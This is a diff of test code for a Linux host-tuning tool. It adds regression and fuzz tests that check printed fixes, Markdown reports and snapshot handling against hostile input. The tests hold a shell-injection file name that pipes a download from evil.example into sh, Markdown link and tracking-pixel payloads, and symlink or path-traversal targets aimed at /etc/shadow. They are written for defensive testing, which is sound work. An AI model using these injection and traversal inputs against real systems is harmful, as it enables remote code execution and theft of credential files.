@@ -9,6 +9,7 @@ user's, whatever a profile says about it.
 from __future__ import annotations
 
 import os
+import shlex
 import signal
 import stat
 from collections.abc import Iterator
@@ -16,6 +17,8 @@ from pathlib import Path
 
 import pytest
 from conftest import run_tune
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 from small_host import SmallHost, build, write_profile
 
 from reconciler.errors import HostError
@@ -154,3 +157,231 @@ def test_a_users_lxc_config_linked_to_a_root_only_file_never_copies_it(tmp_path:
     assert "not an LXC container config" in plan.err
     run_tune("apply", profile, "--root", root, "-y")
     assert config.is_symlink() or SECRET not in config.read_text()
+
+
+def test_a_pci_address_made_to_be_a_command_is_one_word_of_the_fix(tmp_path: Path) -> None:
+    """The fix a plan and an audit print for the reader to copy (`setpci -s ADDRESS ...`)
+    held the device's directory name unquoted: a snapshot's name
+    `0000:01:00.0;curl${IFS}evil|sh;#` made it a command that runs something else."""
+    root = small(tmp_path / "host")
+    devices = root / "sys/bus/pci/devices"
+    name = "0000:01:00.0;curl${IFS}evil.example|sh;#"
+    os.rename(devices / "0000:01:00.0", devices / name)
+    profile = write_profile(
+        tmp_path / "p.yaml", {"pci": [{"select": {"vendor": 0x10DE}, "max_read_request": 4096}]}
+    )
+    for command in (("plan", profile, "--format", "markdown"), ("audit",)):
+        shown = run_tune(*command, "--root", root)
+        assert shown.code == 2, shown.err
+        fixes = [line for line in shown.out.splitlines() if "setpci -s" in line]
+        assert fixes, shown.out
+        for line in fixes:
+            words = shlex.split(line[line.index("setpci") :])
+            assert words[:3] == ["setpci", "-s", name], line
+
+
+def test_host_text_in_a_markdown_report_cannot_add_links_or_images(tmp_path: Path) -> None:
+    """Text output escapes controls; Markdown output also renders `[text](url)` and `![](url)`
+    from a host name or value as a link and an image (a tracking pixel, "run this fix"), and
+    a backtick in a value ends its code span."""
+    root = small(tmp_path / "host")
+    (root / "proc/sys/kernel/hostname").write_text(
+        "gpu01 [run this fix](https://evil.example/fix.sh) ![](https://evil.example/p.png)\n"
+    )
+    (root / "proc/sys/vm/swappiness").write_text("60` [x](https://evil.example/v) `\n")
+    for command in (("plan", swappiness(tmp_path)), ("audit",)):
+        result = run_tune(*command, "--root", root, "--format", "markdown")
+        assert result.code in (0, 2), result.err
+        assert "](https://evil.example" not in result.out, result.out
+
+
+# A hostile snapshot, generated: whatever files, links, FIFOs and names a snapshot holds, plan,
+# check, snapshot and apply answer with a sentence and an exit code, never "internal error"
+# (70), never a wait, never a file of this machine read or written.
+
+HUNT = int(os.environ.get("TUNE_FUZZ_EXAMPLES", "0"))
+BUDGET = settings(
+    max_examples=HUNT or 25,
+    deadline=None,
+    derandomize=not HUNT,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
+
+EVERYTHING = {
+    "sysctl": {"vm.swappiness": 10},
+    "sysfs": {"/sys/block/*/queue/scheduler": "none"},
+    "cpu": {"governor": "performance", "idle_states": {"disable": ["C2"]}},
+    "modules": {"nvidia_peermem": {"value": "loaded", "params": {"foo": 1}}},
+    "pci": [{"select": {"vendor": 0x10DE}, "max_read_request": 4096}],
+    "lxc": [{"container": "100", "memlock": "unlimited", "nvidia_devices": True}],
+}
+# Paths the profile reads or apply writes, and the directories above them.
+PLACES = [
+    "proc/sys/vm/swappiness",
+    "proc/sys/vm",
+    "proc/sys",
+    "proc/sys/kernel/numa_balancing",
+    "proc/modules",
+    "proc/devices",
+    "proc/sys/kernel/osrelease",
+    "proc/sys/kernel/hostname",
+    "sys/block/sda/queue/scheduler",
+    "sys/block/sda",
+    "sys/block",
+    "sys/devices/system/cpu/cpu0/cpufreq/scaling_governor",
+    "sys/devices/system/cpu/cpu0/cpuidle/state2/name",
+    "sys/devices/system/cpu/cpu0/cpuidle/state2",
+    "sys/devices/system/cpu/cpu0",
+    "sys/devices/system/cpu/cpu1",
+    "sys/devices/system/cpu",
+    "sys/bus/pci/devices/0000:01:00.0",
+    "sys/bus/pci/devices/0000:01:00.0/config",
+    "sys/bus/pci/devices",
+    "sys/module/nvidia_peermem",
+    "sys/module/nvidia_peermem/parameters/foo",
+    "dev/nvidia0",
+    "dev",
+    "etc/pve/lxc/100.conf",
+    "etc/pve/lxc",
+    "etc",
+    "etc/sysctl.d",
+    "etc/sysctl.d/90-tune.conf",
+    DROP_IN_TEMPORARY,
+    "etc/sysctl.d/99-other.conf",
+    "etc/tmpfiles.d",
+    "etc/modules-load.d",
+    "var/lib/tune",
+    "var/lib/tune/runs",
+    "var/lib/tune/profile.yaml",
+    "var",
+    "sys/block/[*]?/queue/scheduler",
+    "sys/block/a\nb/queue/scheduler",
+]
+TARGETS = st.sampled_from(
+    [
+        "/",
+        ".",
+        "..",
+        "../..",
+        "../../../../../../../../..",
+        "../../../../../../../../../outside/shadow",
+        "../../../../../../../../../outside",
+        "/etc/shadow",
+        "/proc/sys/vm/swappiness",
+        "/sys/devices/system/cpu/cpu0",
+        "/sys/block/sda/queue/scheduler",
+        "/etc/pve/lxc/100.conf",
+        "self",
+        "loop",
+        "/dev/nvidia0/..",
+        "x/../../..",
+    ]
+)
+CHANGES = st.lists(
+    st.tuples(
+        st.sampled_from(PLACES),
+        st.one_of(
+            st.tuples(st.just("link"), TARGETS),
+            st.tuples(st.just("fifo"), st.just("")),
+            st.tuples(st.just("dir"), st.just("")),
+            st.tuples(st.just("file"), st.sampled_from(["", "\x00\xff", "[a] b\n", "x" * 70000])),
+        ),
+    ),
+    min_size=1,
+    max_size=5,
+)
+
+
+def hostile_tree(root: Path, changes: list[tuple[str, tuple[str, str]]]) -> None:
+    small(root)
+    lxc = root / "etc/pve/lxc/100.conf"
+    lxc.parent.mkdir(parents=True)
+    lxc.write_text("arch: amd64\nlxc.prlimit.memlock: 65536\n")
+    (root / "proc/devices").write_text("Character devices:\n195 nvidia-frontend\n")
+    (root / "dev").mkdir()
+    (root / "dev/nvidia0").write_text("")
+    queue = root / "sys/block/sda/queue"
+    queue.mkdir(parents=True)
+    (queue / "scheduler").write_text("[mq-deadline] none\n")
+    for rel, (what, arg) in changes:
+        path = root / rel
+        if path.is_dir() and not path.is_symlink():
+            for child in sorted(path.rglob("*"), reverse=True):
+                child.rmdir() if child.is_dir() and not child.is_symlink() else child.unlink()
+            path.rmdir()
+        elif path.is_symlink() or path.exists():
+            path.unlink()
+        try:
+            path.parent.mkdir(parents=True, exist_ok=True)
+        except OSError:
+            continue  # a file or a link where its directory would be: it stays so
+        if what == "link":
+            path.symlink_to(path.name if arg == "self" else "loop2" if arg == "loop" else arg)
+            if arg == "loop":
+                (path.parent / "loop2").unlink(missing_ok=True)
+                (path.parent / "loop2").symlink_to(path.name)
+        elif what == "fifo":
+            os.mkfifo(path)
+        elif what == "dir":
+            path.mkdir()
+        else:
+            path.write_bytes(arg.encode("utf-8", "surrogateescape"))
+
+
+@BUDGET
+@given(changes=CHANGES)
+def test_no_snapshot_makes_tune_fail_internally_wait_or_leave_it(
+    tmp_path_factory: pytest.TempPathFactory, changes: list[tuple[str, tuple[str, str]]]
+) -> None:
+    base = tmp_path_factory.mktemp("tree")
+    outside = base / "outside"
+    outside.mkdir()
+    (outside / "shadow").write_text(SECRET + "\n")
+    (base / "etc").mkdir()
+    (base / "etc/shadow").write_text(SECRET + "\n")
+    root = base / "a" / "b" / "host"
+    hostile_tree(root, changes)
+    profile = write_profile(base / "p.yaml", EVERYTHING)
+    before = sorted((p, p.read_bytes()) for p in (outside / "shadow", base / "etc/shadow"))
+    commands = [
+        ("plan", profile, "--root", root),
+        ("plan", profile, "--root", root, "--format", "json"),
+        ("check", profile, "--root", root),
+        ("snapshot", profile, "--root", root, "-o", base / "s.tar.gz"),
+        ("plan", profile, "--root", base / "s.tar.gz"),
+        ("apply", profile, "--root", root, "-y"),
+        ("rollback", "--root", root),
+        ("history", "--root", root),
+        ("audit", "--root", root),
+    ]
+    signal.signal(signal.SIGALRM, _timeout)
+    try:
+        for command in commands:
+            signal.alarm(20)
+            result = run_tune(*command)
+            signal.alarm(0)
+            said = result.out + result.err
+            assert result.code != 70, (command[0], changes, result.err)
+            assert "Traceback" not in said
+            assert "SeCrEtHaSh" not in said, (command[0], changes)
+    finally:
+        signal.alarm(0)
+        signal.signal(signal.SIGALRM, signal.SIG_DFL)
+    assert sorted((p, p.read_bytes()) for p in (outside / "shadow", base / "etc/shadow")) == before
+
+
+def _timeout(signum: int, frame: object) -> None:
+    raise TimeoutError("tune blocked on a file of the snapshot")
+
+
+def test_a_nul_in_the_snapshots_kernel_release_is_an_apply_error_not_an_internal_one(
+    tmp_path: Path,
+) -> None:
+    """Found by the generator below: the emulated modprobe reads /lib/modules/RELEASE/...,
+    and a NUL in the snapshot's osrelease made every os call raise ValueError: exit 70."""
+    root = small(tmp_path / "host")
+    (root / "proc/sys/kernel/osrelease").write_bytes(b"\x00\xff\n")
+    profile = write_profile(tmp_path / "p.yaml", {"modules": {"nvidia_peermem": "loaded"}})
+    applied = run_tune("apply", profile, "--root", root, "-y", "--no-persist")
+    assert applied.code not in (0, 70), applied.err
+    assert "internal error" not in applied.err
